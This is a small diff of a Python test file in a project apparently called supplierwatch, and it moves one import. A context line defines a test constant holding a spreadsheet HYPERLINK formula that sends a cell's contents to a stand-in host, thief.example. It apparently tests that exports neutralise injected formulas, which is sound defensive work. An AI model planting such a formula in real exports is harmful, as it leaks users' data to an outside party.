@@ -12,8 +12,8 @@ from typing import Any
 import feedparser
 import pytest
 
-from supplierwatch.exits import Exit
 from supplierwatch.exports.tables import COLUMNS, harmless_cell
+from supplierwatch.shell.exits import Exit
 from tests.supplierwatch.house import House, a_house, an_article
 
 FORMULA = '=HYPERLINK("http://thief.example/?"&A1,"Halcyon prices")'
